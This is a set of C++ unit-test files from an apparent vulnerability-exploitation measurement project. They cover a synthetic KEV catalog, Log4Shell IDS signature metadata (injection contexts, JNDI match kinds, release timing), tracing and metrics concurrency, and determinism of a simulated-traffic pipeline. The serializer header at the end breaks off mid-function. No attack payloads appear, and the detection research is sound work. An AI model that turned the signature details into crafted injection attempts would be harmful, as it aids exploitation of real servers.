TEST_F(KevTest, ImpactSkewsHighButBelowStudied) {
  // Finding 15: KEV biased high, less extreme than DSCOPE's set.
  double kev_crit = 0;
  for (const auto& entry : catalog_.entries) kev_crit += entry.impact >= 9.0 ? 1 : 0;
  kev_crit /= static_cast<double>(catalog_.entries.size());
  double studied_crit = 0;
  for (const auto& rec : appendix_e()) studied_crit += rec.impact >= 9.0 ? 1 : 0;
  studied_crit /= static_cast<double>(appendix_e().size());
  EXPECT_GT(kev_crit, 0.25);
  EXPECT_LT(kev_crit, studied_crit);
}

TEST_F(KevTest, DeterministicForSeed) {
  const KevCatalog again = synthesize_kev(7);
  ASSERT_EQ(again.entries.size(), catalog_.entries.size());
  for (std::size_t i = 0; i < again.entries.size(); ++i) {
    EXPECT_EQ(again.entries[i].cve_id, catalog_.entries[i].cve_id);
    EXPECT_EQ(again.entries[i].date_added, catalog_.entries[i].date_added);
  }
}

TEST_F(KevTest, DifferentSeedChangesOverlapNotCalibration) {
  const KevCatalog other = synthesize_kev(12345);
  EXPECT_EQ(other.entries.size(), 424u);
  EXPECT_EQ(other.shared_with_study().size(), 44u);
  std::set<std::string> a;
  std::set<std::string> b;
  for (const auto* e : catalog_.shared_with_study()) a.insert(e->cve_id);
  for (const auto* e : other.shared_with_study()) b.insert(e->cve_id);
  EXPECT_NE(a, b);  // the chosen overlap differs by seed
}

TEST_F(KevTest, SortedByPublication) {
  for (std::size_t i = 1; i < catalog_.entries.size(); ++i) {
    EXPECT_LE(catalog_.entries[i - 1].nvd_published, catalog_.entries[i].nvd_published);
  }
}

TEST(KevLaunch, MatchesHistory) {
  EXPECT_EQ(util::format_date(kev_launch()), "2021-11-03");
}

}  // namespace
}  // namespace cvewb::data
