#include "data/log4shell_variants.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <map>

namespace cvewb::data {
namespace {

TEST(Log4ShellVariants, FifteenSignaturesInFiveGroups) {
  const auto& variants = log4shell_variants();
  EXPECT_EQ(variants.size(), 15u);
  std::map<char, int> groups;
  for (const auto& v : variants) ++groups[v.group];
  EXPECT_EQ(groups.size(), 5u);
  EXPECT_EQ(groups['A'], 6);
  EXPECT_EQ(groups['B'], 2);
  EXPECT_EQ(groups['C'], 4);
  EXPECT_EQ(groups['D'], 2);
  EXPECT_EQ(groups['E'], 1);
}

TEST(Log4ShellVariants, GroupReleaseOffsetsMatchTable6) {
  std::map<char, std::int64_t> offsets;
  for (const auto& v : log4shell_variants()) offsets[v.group] = v.group_d_minus_p.total_seconds();
  EXPECT_EQ(offsets['A'], 9 * 3600);
  EXPECT_EQ(offsets['B'], 17 * 3600);
  EXPECT_EQ(offsets['C'], 86400 + 15 * 3600);
  EXPECT_EQ(offsets['D'], 3 * 86400 + 11 * 3600);
  EXPECT_EQ(offsets['E'], 90 * 86400 + 3 * 3600);
}

TEST(Log4ShellVariants, KnownRows) {
  const auto& variants = log4shell_variants();
  // 58723: header/jndi, matched 6h *before* its release.
  const auto it_58723 =
      std::find_if(variants.begin(), variants.end(), [](const auto& v) { return v.sid == 58723; });
  ASSERT_NE(it_58723, variants.end());
  EXPECT_EQ(it_58723->a_minus_d.total_seconds(), -6 * 3600);
  EXPECT_EQ(it_58723->context, InjectionContext::kHttpHeader);
  EXPECT_EQ(it_58723->match, MatchKind::kJndi);
  // 58751: SMTP carrier with extraneous-text adaptation.
  const auto it_58751 =
      std::find_if(variants.begin(), variants.end(), [](const auto& v) { return v.sid == 58751; });
  ASSERT_NE(it_58751, variants.end());
  EXPECT_EQ(it_58751->context, InjectionContext::kSmtp);
  EXPECT_FALSE(it_58751->adaptation.empty());
}

TEST(Log4ShellVariants, SidsUnique) {
  std::map<int, int> sids;
  for (const auto& v : log4shell_variants()) ++sids[v.sid];
  for (const auto& [sid, count] : sids) EXPECT_EQ(count, 1) << sid;
}

TEST(Log4ShellVariants, ToStringCoversAllEnumerators) {
  EXPECT_EQ(to_string(InjectionContext::kHttpMethod), "HTTP Request Method");
  EXPECT_EQ(to_string(InjectionContext::kSmtp), "SMTP");
  EXPECT_EQ(to_string(MatchKind::kAny), "jndi/lower/upper");
  EXPECT_EQ(to_string(MatchKind::kLower), "lower");
}

}  // namespace
}  // namespace cvewb::data
