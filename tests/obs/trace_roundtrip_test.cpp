// Trace-event JSON round trip: whatever the Tracer emits must parse back
// with util::json and carry every field the Chrome trace viewers require
// (name, ph, ts, dur, pid, tid), with non-negative monotone-consistent
// durations and proper span nesting per thread.
#include <gtest/gtest.h>

#include <algorithm>
#include <cstdint>
#include <map>
#include <string>
#include <thread>
#include <vector>

#include "obs/observability.h"
#include "obs/trace.h"
#include "pipeline/study.h"
#include "util/json.h"

namespace cvewb::obs {
namespace {

struct ParsedEvent {
  std::string name;
  double ts = 0;
  double dur = 0;
  double tid = 0;
};

/// Dump -> parse -> extract, asserting the required fields on the way.
std::vector<ParsedEvent> roundtrip(const Tracer& tracer) {
  std::string error;
  const auto doc = util::parse_json(tracer.to_json().dump(2), error);
  EXPECT_TRUE(doc.has_value()) << error;
  if (!doc) return {};
  const util::Json* events = doc->find("traceEvents");
  EXPECT_NE(events, nullptr);
  if (events == nullptr) return {};
  const util::Json* unit = doc->find("displayTimeUnit");
  EXPECT_NE(unit, nullptr);

  std::vector<ParsedEvent> out;
  for (const auto& event : events->as_array()) {
    const util::Json* name = event.find("name");
    const util::Json* ph = event.find("ph");
    const util::Json* ts = event.find("ts");
    const util::Json* dur = event.find("dur");
    const util::Json* pid = event.find("pid");
    const util::Json* tid = event.find("tid");
    EXPECT_NE(name, nullptr) << "event missing name";
    EXPECT_NE(ph, nullptr);
    EXPECT_NE(ts, nullptr);
    EXPECT_NE(dur, nullptr);
    EXPECT_NE(pid, nullptr);
    EXPECT_NE(tid, nullptr);
    if (name == nullptr || ph == nullptr || ts == nullptr || dur == nullptr || pid == nullptr ||
        tid == nullptr) {
      return {};
    }
    EXPECT_FALSE(name->as_string().empty());
    EXPECT_EQ(ph->as_string(), "X");  // complete events only
    EXPECT_GE(ts->as_number(), 0.0);
    EXPECT_GE(dur->as_number(), 0.0);
    out.push_back(ParsedEvent{name->as_string(), ts->as_number(), dur->as_number(),
                              tid->as_number()});
  }
  return out;
}

const ParsedEvent* find_event(const std::vector<ParsedEvent>& events, const std::string& name) {
  const auto it = std::find_if(events.begin(), events.end(),
                               [&name](const ParsedEvent& e) { return e.name == name; });
  return it == events.end() ? nullptr : &*it;
}

TEST(TraceRoundtrip, NestedSpansParseWithRequiredFields) {
  Tracer tracer;
  {
    Span outer(&tracer, "outer");
    {
      Span inner(&tracer, "inner");
    }
    Span sibling(&tracer, "sibling");
  }
  const auto events = roundtrip(tracer);
  ASSERT_EQ(events.size(), 3u);

  const ParsedEvent* outer = find_event(events, "outer");
  const ParsedEvent* inner = find_event(events, "inner");
  const ParsedEvent* sibling = find_event(events, "sibling");
  ASSERT_NE(outer, nullptr);
  ASSERT_NE(inner, nullptr);
  ASSERT_NE(sibling, nullptr);

  // All on the recording thread.
  EXPECT_EQ(outer->tid, inner->tid);
  EXPECT_EQ(outer->tid, sibling->tid);

  // The inner span is contained in the outer one; the sibling does not
  // start before the inner one ends.
  EXPECT_GE(inner->ts, outer->ts);
  EXPECT_LE(inner->ts + inner->dur, outer->ts + outer->dur);
  EXPECT_GE(sibling->ts, inner->ts + inner->dur);
  EXPECT_LE(sibling->ts + sibling->dur, outer->ts + outer->dur);
}

TEST(TraceRoundtrip, PerThreadNestingIsWellFormed) {
  // Several threads each record a nested stack of spans; within every tid
  // the events must form a proper forest: sorted by start time, each span
  // either contains the next or ends before it starts (no partial
  // overlap).
  Tracer tracer;
  constexpr int kThreads = 4;
  std::vector<std::thread> threads;
  threads.reserve(kThreads);
  for (int t = 0; t < kThreads; ++t) {
    threads.emplace_back([&tracer, t] {
      for (int i = 0; i < 5; ++i) {
        Span outer(&tracer, "outer_" + std::to_string(t));
        Span inner(&tracer, "inner_" + std::to_string(t));
      }
    });
  }
  for (auto& thread : threads) thread.join();

  const auto events = roundtrip(tracer);
  ASSERT_EQ(events.size(), static_cast<std::size_t>(kThreads) * 10);

  std::map<double, std::vector<ParsedEvent>> by_tid;
  for (const auto& event : events) by_tid[event.tid].push_back(event);
  ASSERT_EQ(by_tid.size(), static_cast<std::size_t>(kThreads));

  for (auto& [tid, tid_events] : by_tid) {
    ASSERT_EQ(tid_events.size(), 10u);
    std::sort(tid_events.begin(), tid_events.end(),
              [](const ParsedEvent& a, const ParsedEvent& b) {
                return a.ts != b.ts ? a.ts < b.ts : a.dur > b.dur;
              });
    std::vector<const ParsedEvent*> stack;
    for (const auto& event : tid_events) {
      while (!stack.empty() && stack.back()->ts + stack.back()->dur <= event.ts) {
        stack.pop_back();
      }
      if (!stack.empty()) {
        // Still-open ancestor: the child must be fully contained.
        EXPECT_LE(event.ts + event.dur, stack.back()->ts + stack.back()->dur)
            << "partial overlap in tid " << tid;
      }
      stack.push_back(&event);
    }
  }
}

TEST(TraceRoundtrip, EventsAccessorAgreesWithJson) {
  Tracer tracer;
  { Span span(&tracer, "only"); }
  ASSERT_EQ(tracer.event_count(), 1u);
  const auto raw = tracer.events();
  ASSERT_EQ(raw.size(), 1u);
  EXPECT_EQ(raw[0].name, "only");

  const auto parsed = roundtrip(tracer);
  ASSERT_EQ(parsed.size(), 1u);
  EXPECT_EQ(parsed[0].name, raw[0].name);
  EXPECT_EQ(static_cast<std::uint64_t>(parsed[0].ts), raw[0].ts_us);
  EXPECT_EQ(static_cast<std::uint64_t>(parsed[0].dur), raw[0].dur_us);
}

TEST(TraceRoundtrip, InstrumentedStudyEmitsPhaseSpans) {
  Observability observability;
  pipeline::StudyConfig config;
  config.seed = 7;
  config.event_scale = 0.01;
  config.background_per_day = 2.0;
  config.credstuff_per_day = 0.5;
  config.telescope_lanes = 5;
  config.pool_size = 20000;
  config.threads = 2;
  config.observability = &observability;
  (void)pipeline::run_study(config);

  const auto events = roundtrip(observability.tracer);
  ASSERT_FALSE(events.empty());
  for (const char* phase : {"phase/telescope", "phase/traffic", "phase/ruleset",
                            "phase/reconstruct", "phase/analyze", "phase/unique_ips"}) {
    EXPECT_NE(find_event(events, phase), nullptr) << "missing " << phase;
  }
  // Worker-thread spans exist and run on tids other than the main one.
  const ParsedEvent* shard = find_event(events, "ids/match_batch");
  ASSERT_NE(shard, nullptr);
  const ParsedEvent* main_phase = find_event(events, "phase/traffic");
  ASSERT_NE(main_phase, nullptr);
  bool worker_tid_seen = false;
  for (const auto& event : events) worker_tid_seen |= event.tid != main_phase->tid;
  EXPECT_TRUE(worker_tid_seen);
}

}  // namespace
}  // namespace cvewb::obs
