// TimedMutex + LockContentionProfiler: the lock-contention observability
// layer around the pipeline's named mutexes.  What matters: durations are
// monotonic and attributed to the right mutex name, the unprofiled path
// stays callback-free (the zero-overhead contract), and contention
// recorded from many threads survives the registry's exact snapshot
// merge.
#include "obs/lock_profile.h"

#include <gtest/gtest.h>

#include <atomic>
#include <chrono>
#include <mutex>
#include <thread>
#include <vector>

#include "obs/metrics.h"
#include "util/timed_mutex.h"

namespace cvewb::obs {
namespace {

// Callback recorder used to observe the raw LockProfiler protocol
// independent of the metrics-backed implementation.
class RecordingProfiler : public util::LockProfiler {
 public:
  void on_acquire(const char* name, std::uint64_t blocked_us, bool contended) override {
    std::lock_guard<std::mutex> guard(mutex_);
    acquires_.push_back({name, blocked_us, contended});
  }
  void on_release(const char* name, std::uint64_t held_us) override {
    std::lock_guard<std::mutex> guard(mutex_);
    releases_.push_back({name, held_us});
  }

  struct Acquire {
    std::string name;
    std::uint64_t blocked_us;
    bool contended;
  };
  struct Release {
    std::string name;
    std::uint64_t held_us;
  };

  std::vector<Acquire> acquires() {
    std::lock_guard<std::mutex> guard(mutex_);
    return acquires_;
  }
  std::vector<Release> releases() {
    std::lock_guard<std::mutex> guard(mutex_);
    return releases_;
  }

 private:
  std::mutex mutex_;
  std::vector<Acquire> acquires_;
  std::vector<Release> releases_;
};

TEST(TimedMutex, UnprofiledPathFiresNoCallbacks) {
  util::TimedMutex mutex("test/unprofiled");
  EXPECT_FALSE(mutex.profiled());
  {
    std::lock_guard<util::TimedMutex> guard(mutex);
  }
  RecordingProfiler profiler;
  mutex.attach(&profiler);
  EXPECT_TRUE(mutex.profiled());
  {
    std::lock_guard<util::TimedMutex> guard(mutex);
  }
  mutex.detach();
  EXPECT_FALSE(mutex.profiled());
  {
    std::lock_guard<util::TimedMutex> guard(mutex);
  }
  // Only the attached window produced events.
  EXPECT_EQ(profiler.acquires().size(), 1u);
  EXPECT_EQ(profiler.releases().size(), 1u);
}

TEST(TimedMutex, UncontendedAcquireReportsZeroBlocked) {
  util::TimedMutex mutex("test/uncontended");
  RecordingProfiler profiler;
  mutex.attach(&profiler);
  {
    std::lock_guard<util::TimedMutex> guard(mutex);
  }
  mutex.detach();
  const auto acquires = profiler.acquires();
  ASSERT_EQ(acquires.size(), 1u);
  EXPECT_EQ(acquires[0].blocked_us, 0u);
  EXPECT_FALSE(acquires[0].contended);
  EXPECT_EQ(acquires[0].name, "test/uncontended");
}

TEST(TimedMutex, ContendedAcquireReportsMonotonicDurations) {
  util::TimedMutex mutex("test/contended");
  RecordingProfiler profiler;
  mutex.attach(&profiler);

  constexpr auto kHold = std::chrono::milliseconds(20);
  std::atomic<bool> holder_locked{false};
  std::thread holder([&] {
    std::unique_lock<util::TimedMutex> guard(mutex);
    holder_locked.store(true);
    std::this_thread::sleep_for(kHold);
  });
  while (!holder_locked.load()) std::this_thread::yield();
  {
    // Blocks until the holder releases: a guaranteed contended acquire.
    std::lock_guard<util::TimedMutex> guard(mutex);
  }
  holder.join();
  mutex.detach();

  bool saw_contended = false;
  for (const auto& acquire : profiler.acquires()) {
    if (acquire.contended) {
      saw_contended = true;
      // Monotonic clock: the wait covered most of the holder's sleep.
      // Generous lower bound to stay robust under scheduler jitter.
      EXPECT_GE(acquire.blocked_us, 5'000u);
    }
  }
  EXPECT_TRUE(saw_contended);
  bool saw_long_hold = false;
  for (const auto& release : profiler.releases()) {
    EXPECT_EQ(release.name, "test/contended");
    if (release.held_us >= 5'000u) saw_long_hold = true;
  }
  EXPECT_TRUE(saw_long_hold);
}

TEST(LockContentionProfiler, AttributesCountersToTheRightMutex) {
  MetricsRegistry metrics;
  LockContentionProfiler profiler(&metrics, nullptr);
  util::TimedMutex alpha("alpha");
  util::TimedMutex beta("beta");
  profiler.attach(alpha);
  profiler.attach(beta);

  for (int i = 0; i < 7; ++i) std::lock_guard<util::TimedMutex> guard(alpha);
  for (int i = 0; i < 3; ++i) std::lock_guard<util::TimedMutex> guard(beta);
  profiler.detach_all();

  const MetricsSnapshot snapshot = metrics.snapshot();
  EXPECT_EQ(snapshot.counters.at("lock/alpha/acquire_total"), 7u);
  EXPECT_EQ(snapshot.counters.at("lock/beta/acquire_total"), 3u);
  EXPECT_EQ(snapshot.counters.at("lock/alpha/contended_total"), 0u);
  EXPECT_EQ(snapshot.counters.at("lock/beta/contended_total"), 0u);
  // One held_us observation per release, attributed per mutex.
  EXPECT_EQ(snapshot.histograms.at("lock/alpha/held_us").count, 7u);
  EXPECT_EQ(snapshot.histograms.at("lock/beta/held_us").count, 3u);
}

TEST(LockContentionProfiler, ContentionLandsInBlockedHistogram) {
  MetricsRegistry metrics;
  LockContentionProfiler profiler(&metrics, nullptr);
  util::TimedMutex mutex("hot");
  profiler.attach(mutex);

  std::atomic<bool> holder_locked{false};
  std::thread holder([&] {
    std::unique_lock<util::TimedMutex> guard(mutex);
    holder_locked.store(true);
    std::this_thread::sleep_for(std::chrono::milliseconds(15));
  });
  while (!holder_locked.load()) std::this_thread::yield();
  {
    std::lock_guard<util::TimedMutex> guard(mutex);
  }
  holder.join();
  profiler.detach_all();

  const MetricsSnapshot snapshot = metrics.snapshot();
  EXPECT_EQ(snapshot.counters.at("lock/hot/acquire_total"), 2u);
  EXPECT_GE(snapshot.counters.at("lock/hot/contended_total"), 1u);
  const auto& blocked = snapshot.histograms.at("lock/hot/blocked_us");
  ASSERT_GE(blocked.count, 1u);
  EXPECT_GE(blocked.max, 5'000u);  // most of the 15ms hold, with jitter slack
  const auto& held = snapshot.histograms.at("lock/hot/held_us");
  EXPECT_EQ(held.count, 2u);
  EXPECT_GE(held.max, 5'000u);
}

TEST(LockContentionProfiler, MultiThreadTotalsSurviveSnapshotMerge) {
  MetricsRegistry metrics;
  LockContentionProfiler profiler(&metrics, nullptr);
  util::TimedMutex mutex("shared");
  profiler.attach(mutex);

  // Metrics accumulate in per-thread slabs; snapshot() must merge them to
  // the exact global total.
  constexpr int kThreads = 4;
  constexpr int kIterations = 500;
  std::vector<std::thread> threads;
  std::uint64_t shared_value = 0;
  for (int t = 0; t < kThreads; ++t) {
    threads.emplace_back([&] {
      for (int i = 0; i < kIterations; ++i) {
        std::lock_guard<util::TimedMutex> guard(mutex);
        ++shared_value;
      }
    });
  }
  for (auto& thread : threads) thread.join();
  profiler.detach_all();

  EXPECT_EQ(shared_value, static_cast<std::uint64_t>(kThreads) * kIterations);
  const MetricsSnapshot snapshot = metrics.snapshot();
  EXPECT_EQ(snapshot.counters.at("lock/shared/acquire_total"),
            static_cast<std::uint64_t>(kThreads) * kIterations);
  EXPECT_EQ(snapshot.histograms.at("lock/shared/held_us").count,
            static_cast<std::uint64_t>(kThreads) * kIterations);
  // contended <= total, and blocked_us has one observation per contended
  // acquisition (uncontended acquisitions do not observe).
  EXPECT_LE(snapshot.counters.at("lock/shared/contended_total"),
            snapshot.counters.at("lock/shared/acquire_total"));
}

TEST(LockContentionProfiler, DetachAllRestoresTheNullPath) {
  MetricsRegistry metrics;
  LockContentionProfiler profiler(&metrics, nullptr);
  util::TimedMutex mutex("transient");
  profiler.attach(mutex);
  {
    std::lock_guard<util::TimedMutex> guard(mutex);
  }
  profiler.detach_all();
  EXPECT_FALSE(mutex.profiled());
  {
    std::lock_guard<util::TimedMutex> guard(mutex);  // must not touch metrics
  }
  const MetricsSnapshot snapshot = metrics.snapshot();
  EXPECT_EQ(snapshot.counters.at("lock/transient/acquire_total"), 1u);
}

}  // namespace
}  // namespace cvewb::obs
