// Golden determinism with observability on: attaching a tracing/metrics
// sink to run_study must change *only* wall-clock -- the StudyResult has
// to stay byte-identical to an unobserved run, at any thread count.  This
// is the proof obligation behind StudyConfig.observability's "strict
// side-channel" contract (DESIGN.md, "Observability").
#include <gtest/gtest.h>

#include <string>

#include "obs/observability.h"
#include "pipeline/study.h"
#include "util/sha256.h"

#include "../support/study_serialize.h"

namespace cvewb::pipeline {
namespace {

using test_support::serialize_study;

StudyConfig small_config(std::uint64_t seed, int threads) {
  StudyConfig config;
  config.seed = seed;
  config.threads = threads;
  config.event_scale = 0.03;
  config.background_per_day = 5.0;
  config.credstuff_per_day = 1.0;
  config.telescope_lanes = 10;
  config.pool_size = 50000;
  // Keep the fault injector in the loop: it is one of the instrumented
  // stages and the most RNG-sensitive one.
  config.faults.blackout_count = 2;
  config.faults.blackout_duration = util::Duration::hours(12);
  config.faults.session_loss_rate = 0.03;
  config.faults.snaplen = 300;
  config.faults.corruption_rate = 0.02;
  config.faults.duplication_rate = 0.04;
  config.faults.reorder_rate = 0.05;
  config.faults.clock_skew_max = util::Duration::minutes(10);
  config.faults.lanes = 10;
  return config;
}

class ObsDeterminism : public ::testing::TestWithParam<std::uint64_t> {};

void expect_observed_run_matches(std::uint64_t seed, int threads) {
  const std::string plain = serialize_study(run_study(small_config(seed, threads)));

  obs::Observability observability;
  StudyConfig observed_config = small_config(seed, threads);
  observed_config.observability = &observability;
  const std::string observed = serialize_study(run_study(observed_config));

  // Digest comparison first for a readable failure, then the full bytes.
  ASSERT_EQ(util::sha256_hex(plain), util::sha256_hex(observed))
      << "threads=" << threads << " seed=" << seed;
  ASSERT_EQ(plain, observed);

  // The equality only proves something if the instrumentation actually
  // fired: require trace spans and a populated registry.
  EXPECT_GT(observability.tracer.event_count(), 0u);
  const auto snapshot = observability.metrics.snapshot();
  EXPECT_FALSE(snapshot.counters.empty());
  EXPECT_NE(snapshot.counters.find("phase_us/reconstruct"), snapshot.counters.end());
}

TEST_P(ObsDeterminism, SerialRunIsByteIdenticalWithObservability) {
  expect_observed_run_matches(GetParam(), 1);
}

TEST_P(ObsDeterminism, ParallelRunIsByteIdenticalWithObservability) {
  expect_observed_run_matches(GetParam(), 4);
}

TEST_P(ObsDeterminism, ObservedParallelAgreesWithUnobservedSerial) {
  // The strongest form: serial-unobserved vs parallel-observed, crossing
  // both axes the contract quantifies over.
  const std::string reference = serialize_study(run_study(small_config(GetParam(), 1)));
  obs::Observability observability;
  StudyConfig config = small_config(GetParam(), 4);
  config.observability = &observability;
  const std::string observed = serialize_study(run_study(config));
  ASSERT_EQ(util::sha256_hex(reference), util::sha256_hex(observed));
  ASSERT_EQ(reference, observed);
}

INSTANTIATE_TEST_SUITE_P(Seeds, ObsDeterminism, ::testing::Values(11ULL, 5081ULL, 900913ULL),
                         [](const auto& info) { return "seed_" + std::to_string(info.param); });

}  // namespace
}  // namespace cvewb::pipeline
