// MetricsRegistry: merged totals must be exact under concurrency.
//
// The registry accumulates counters/histograms into per-thread slabs and
// merges on snapshot(); these tests hammer it from many threads and
// require the merged totals to equal the arithmetic truth -- no lost
// updates, no double counting.  Compiled into both test_obs and the
// tsan-labelled test_parallel so a ThreadSanitizer build checks the same
// claims.
#include <gtest/gtest.h>

#include <cstdint>
#include <memory>
#include <stdexcept>
#include <string>
#include <thread>
#include <vector>

#include "obs/metrics.h"

namespace cvewb::obs {
namespace {

TEST(MetricsRegistry, DuplicateRegistrationReturnsSameId) {
  MetricsRegistry registry;
  EXPECT_EQ(registry.counter("a").index, registry.counter("a").index);
  EXPECT_NE(registry.counter("a").index, registry.counter("b").index);
  EXPECT_EQ(registry.gauge("g").index, registry.gauge("g").index);
  EXPECT_EQ(registry.histogram("h").index, registry.histogram("h").index);
  // Kinds have independent namespaces: a counter "a" does not collide
  // with a gauge "a".
  EXPECT_EQ(registry.gauge("a").index, 1u);
}

TEST(MetricsRegistry, CountersMergeExactlyAcrossThreads) {
  MetricsRegistry registry;
  const CounterId ones = registry.counter("ones");
  const CounterId weighted = registry.counter("weighted");
  constexpr int kThreads = 8;
  constexpr std::uint64_t kIncrements = 50'000;

  std::vector<std::thread> threads;
  threads.reserve(kThreads);
  for (int t = 0; t < kThreads; ++t) {
    threads.emplace_back([&registry, ones, weighted, t] {
      for (std::uint64_t i = 0; i < kIncrements; ++i) {
        registry.add(ones);
        registry.add(weighted, static_cast<std::uint64_t>(t) + 1);
      }
    });
  }
  for (auto& thread : threads) thread.join();

  const auto snapshot = registry.snapshot();
  EXPECT_EQ(snapshot.counters.at("ones"), kThreads * kIncrements);
  // sum over t of (t+1) * kIncrements = kIncrements * kThreads*(kThreads+1)/2
  EXPECT_EQ(snapshot.counters.at("weighted"), kIncrements * kThreads * (kThreads + 1) / 2);
}

TEST(MetricsRegistry, HistogramsMergeExactlyAcrossThreads) {
  MetricsRegistry registry;
  const HistogramId latency = registry.histogram("latency");
  constexpr int kThreads = 8;
  constexpr std::uint64_t kObservations = 20'000;

  std::vector<std::thread> threads;
  threads.reserve(kThreads);
  for (int t = 0; t < kThreads; ++t) {
    threads.emplace_back([&registry, latency] {
      for (std::uint64_t i = 0; i < kObservations; ++i) registry.observe(latency, i % 1000);
    });
  }
  for (auto& thread : threads) thread.join();

  const auto snapshot = registry.snapshot();
  const auto& h = snapshot.histograms.at("latency");
  EXPECT_EQ(h.count, kThreads * kObservations);
  // Each thread observes 0..999 repeated kObservations/1000 times.
  const std::uint64_t per_thread_sum = (999 * 1000 / 2) * (kObservations / 1000);
  EXPECT_EQ(h.sum, kThreads * per_thread_sum);
  EXPECT_EQ(h.min, 0u);
  EXPECT_EQ(h.max, 999u);
  // Every observation lands in exactly one bucket.
  std::uint64_t bucketed = 0;
  for (const auto b : h.buckets) bucketed += b;
  EXPECT_EQ(bucketed, h.count);
}

TEST(MetricsRegistry, GaugeSetAddAndHighWater) {
  MetricsRegistry registry;
  const GaugeId depth = registry.gauge("depth");
  registry.gauge_set(depth, 5);
  registry.gauge_add(depth, 3);
  registry.gauge_add(depth, -6);
  auto snapshot = registry.snapshot();
  EXPECT_EQ(snapshot.gauges.at("depth").value, 2);
  EXPECT_EQ(snapshot.gauges.at("depth").max, 8);

  registry.gauge_set(depth, -10);
  snapshot = registry.snapshot();
  EXPECT_EQ(snapshot.gauges.at("depth").value, -10);
  EXPECT_EQ(snapshot.gauges.at("depth").max, 8);  // high-water is sticky
}

TEST(MetricsRegistry, GaugeHighWaterSurvivesConcurrentAdds) {
  MetricsRegistry registry;
  const GaugeId gauge = registry.gauge("seesaw");
  constexpr int kThreads = 8;
  constexpr int kRounds = 20'000;

  // Each thread adds +1 then -1; value must come back to 0 and the
  // high-water can never exceed the thread count.
  std::vector<std::thread> threads;
  threads.reserve(kThreads);
  for (int t = 0; t < kThreads; ++t) {
    threads.emplace_back([&registry, gauge] {
      for (int i = 0; i < kRounds; ++i) {
        registry.gauge_add(gauge, 1);
        registry.gauge_add(gauge, -1);
      }
    });
  }
  for (auto& thread : threads) thread.join();

  const auto snapshot = registry.snapshot();
  EXPECT_EQ(snapshot.gauges.at("seesaw").value, 0);
  EXPECT_GE(snapshot.gauges.at("seesaw").max, 1);
  EXPECT_LE(snapshot.gauges.at("seesaw").max, kThreads);
}

TEST(MetricsRegistry, BucketOfLog2Boundaries) {
  EXPECT_EQ(MetricsRegistry::bucket_of(0), 0u);
  EXPECT_EQ(MetricsRegistry::bucket_of(1), 1u);
  EXPECT_EQ(MetricsRegistry::bucket_of(2), 2u);
  EXPECT_EQ(MetricsRegistry::bucket_of(3), 2u);
  EXPECT_EQ(MetricsRegistry::bucket_of(4), 3u);
  EXPECT_EQ(MetricsRegistry::bucket_of(1023), 10u);
  EXPECT_EQ(MetricsRegistry::bucket_of(1024), 11u);
  // Out-of-range values clamp into the last bucket.
  EXPECT_EQ(MetricsRegistry::bucket_of(~0ULL), MetricsRegistry::kHistogramBuckets - 1);
}

TEST(MetricsRegistry, ConcurrentRegistrationIsSafe) {
  // Threads racing to register overlapping names must agree on ids and
  // lose no increments.
  MetricsRegistry registry;
  constexpr int kThreads = 8;
  constexpr int kNames = 16;
  constexpr int kIncrements = 2'000;

  std::vector<std::thread> threads;
  threads.reserve(kThreads);
  for (int t = 0; t < kThreads; ++t) {
    threads.emplace_back([&registry] {
      for (int i = 0; i < kIncrements; ++i) {
        registry.add(registry.counter("name_" + std::to_string(i % kNames)));
      }
    });
  }
  for (auto& thread : threads) thread.join();

  const auto snapshot = registry.snapshot();
  ASSERT_EQ(snapshot.counters.size(), static_cast<std::size_t>(kNames));
  std::uint64_t total = 0;
  for (const auto& [name, value] : snapshot.counters) total += value;
  EXPECT_EQ(total, static_cast<std::uint64_t>(kThreads) * kIncrements);
}

TEST(MetricsRegistry, TwoRegistriesDoNotShareSlabs) {
  // The thread-local slab cache is keyed by registry id; a second registry
  // on the same thread must start from zero, and a registry created after
  // another died must not inherit its slab.
  auto first = std::make_unique<MetricsRegistry>();
  first->add(first->counter("x"), 7);
  MetricsRegistry second;
  second.add(second.counter("x"), 1);
  EXPECT_EQ(first->snapshot().counters.at("x"), 7u);
  EXPECT_EQ(second.snapshot().counters.at("x"), 1u);
  first.reset();
  MetricsRegistry third;
  third.add(third.counter("x"), 2);
  EXPECT_EQ(third.snapshot().counters.at("x"), 2u);
}

TEST(MetricsRegistry, CapacityExhaustionThrows) {
  MetricsRegistry registry;
  for (std::size_t i = 0; i < MetricsRegistry::kMaxHistograms; ++i) {
    registry.histogram("h" + std::to_string(i));
  }
  EXPECT_THROW(registry.histogram("one_too_many"), std::length_error);
}

}  // namespace
}  // namespace cvewb::obs
