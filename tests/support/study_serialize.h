// Shared test support: exact byte serialization of a StudyResult.
//
// The determinism suites (tests/pipeline/parallel_determinism_test.cpp,
// tests/obs/obs_determinism_test.cpp) compare serialized studies for
// byte-identity; factoring the serializer here guarantees both proofs use
// the same definition of "everything the study reports".
#pragma once

#include <sstream>
#include <string>

#include "pipeline/study.h"

namespace cvewb::pipeline::test_support {

inline void put_time(std::ostringstream& out, util::TimePoint t) {
  out << t.unix_seconds() << ' ';
}

/// Exact byte serialization of everything the study reports.  Doubles are
/// written as hexfloat so equality means bit-equality.
inline std::string serialize_study(const StudyResult& r) {
  std::ostringstream out;
  out << std::hexfloat;

  out << "sessions " << r.traffic.sessions.size() << '\n';
  for (const auto& s : r.traffic.sessions) {
    out << s.id << ' ';
    put_time(out, s.open_time);
    out << s.src.value() << ' ' << s.dst.value() << ' ' << s.src_port << ' ' << s.dst_port << ' '
        << s.payload.size() << ':' << s.payload << '\n';
  }
  out << "tags " << r.traffic.tags.size() << '\n';
  for (const auto& tag : r.traffic.tags) {
    out << static_cast<int>(tag.kind) << ' ' << tag.cve_id << ' ' << tag.sid << '\n';
  }

  out << "fault_log " << r.fault_log.sessions_in << ' ' << r.fault_log.sessions_out << '\n';
  for (const auto count : r.fault_log.counts) out << count << ' ';
  out << '\n';
  for (const auto& record : r.fault_log.records) {
    out << static_cast<int>(record.kind) << ' ' << record.session_id << ' ' << record.detail
        << '\n';
  }
  for (const auto& w : r.fault_log.blackouts) {
    out << w.lane << ' ';
    put_time(out, w.begin);
    put_time(out, w.end);
    out << '\n';
  }

  const auto& rec = r.reconstruction;
  out << "reconstruction " << rec.sessions_scanned << ' ' << rec.sessions_matched << '\n';
  out << rec.quality.sessions_in << ' ' << rec.quality.duplicates_removed << ' '
      << rec.quality.timestamps_clamped << ' ' << rec.quality.empty_payloads << ' '
      << rec.quality.non_http_payloads << ' ' << rec.quality.truncated_http << ' '
      << rec.quality.match_errors << '\n';
